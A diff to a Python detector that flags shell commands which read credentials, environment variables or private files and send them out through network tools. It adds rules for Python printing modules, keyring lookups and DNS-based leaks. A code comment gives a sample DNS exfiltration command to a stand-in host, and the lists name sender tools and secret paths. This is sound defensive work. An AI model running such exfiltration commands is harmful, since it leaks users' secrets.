@@ -51,6 +51,7 @@ _READERS = frozenset(
     "join glow get-content gc type select-string sls copy-item copy".split()
 )
 _SEARCHING = frozenset("grep egrep fgrep rg ag ack zgrep sed awk gawk mawk jq yq select-string sls".split())
+_PRINTING_MODULES = (["json.tool"], ["base64"], ["quopri"], ["zipfile"], ["tarfile"])  # of Python
 _QUIET = frozenset("--files-with-matches --count --quiet --silent --files-without-match".split())
 # Programs that send what they are given, and their options whose values are not sent.
 _SENDERS = frozenset(
@@ -60,8 +61,8 @@ _SENDERS = frozenset(
     "onionshare-cli openssl smbclient slack telegram-send twurl ntfy".split()
 )
 _KEPT = frozenset(
-    "-i -E --cert --key --cacert --netrc-file -K --config -b --cookie -c --cookie-jar -o --output -O --private-key "
-    "--rsh --identity-file --kubeconfig --ssh-key".split()
+    "-i -E --cert --key --cert-key --cacert --netrc-file -K --config -b --cookie -c --cookie-jar -o --output -O "
+    "--private-key --rsh --identity-file --kubeconfig --ssh-key".split()
 )
 _LOGIN = frozenset(
     "-H --header -u --user --oauth2-bearer --proxy-user -A --user-agent -Headers -Authentication".split()
@@ -83,6 +84,8 @@ _SENDING = {  # the subcommands that send, of programs with many
     "rclone": r"^(?:copy|copyto|sync|move|moveto|rcat)\b",
     "ngrok": r"file:",
 }
+# What a file or the environment has, as the name of a machine: `dig $(base64 notes | head -c 60).example.com`
+_IN_A_NAME = r"(?:\$\(|`)[^`]{0,200}\b(?:base64|base32|xxd|od|hexdump|env|printenv)\b[^`]{0,200}[)`][\w\"'}]*\.\w"
 _PRIVATE = r"/(?:etc(?:/passwd|/group)?|home|Users|root|var/mail|var/spool/mail)?(?:/[\ue004*])?"
 _OF_HOME = (
     r"(?:/(?:Documents|Desktop|Downloads|Pictures|Library|\.config|\.local|\.mozilla|\.thunderbird|Mail|[\ue004*])?)?"
@@ -199,6 +202,8 @@ class _Check:
         if _prints_environment(command):
             return "environment"
         has_code = any(word[:2] in ("-c", "-e", "-r", "-p") or word == "--eval" for word in words)
+        if name == "python" and words[:1] == ["-m"] and words[1:2] in _PRINTING_MODULES:
+            return self._rule_of_words(command, words[2:])
         if name in LANGUAGES and (has_code or (command.stdin and words in ([], ["-"]))):
             return self._read_by_code(command)
         if name == "git" and ("show" in words or "diff" in words or ("log" in words and "-p" in words)):
@@ -223,7 +228,9 @@ class _Check:
         """Return the rule for the first secret among arguments, or None. Skips values that a sender does not send."""
         before = ""
         for word in words:
-            is_kept = (before in _KEPT and command.name in _SENDERS) or (before == "-e" and command.name == "rsync")
+            is_kept = (command.name in _SENDERS and (before in _KEPT or word.partition("=")[0] in _KEPT)) or (
+                before == "-e" and command.name == "rsync"
+            )
             rule = None if is_kept else self._rule_of_word(command, word)
             if rule:
                 return rule
@@ -257,6 +264,8 @@ class _Check:
         code = " ".join((*command.words[1:MOST], command.stdin or ""))[:LONGEST]
         if re.search(_WHOLE_ENVIRONMENT, code):
             return "environment"
+        if "keyring.get_password" in code:
+            return "credentials"
         texts = re.findall(r"['\"]([^'\"\n]{0,300})['\"]", code)
         return next((rule for text in texts if (rule := rule_of(self._path(command, text)))), None)
 
@@ -320,6 +329,8 @@ class _Check:
             return False
         if any(re.match(_HERE, word) for word in words) or "--help" in words:
             return False
+        if name in ("dig", "nslookup", "host", "drill", "ping") and re.search(_IN_A_NAME, command.shown[:LONGEST]):
+            return True
         rule = rule or self._sent_by(command)
         if name in ("scp", "rsync", "sftp"):
             return bool(rule) and (name == "sftp" or any(re.match(_TO_OTHERS, word) for word in words[-1:]))
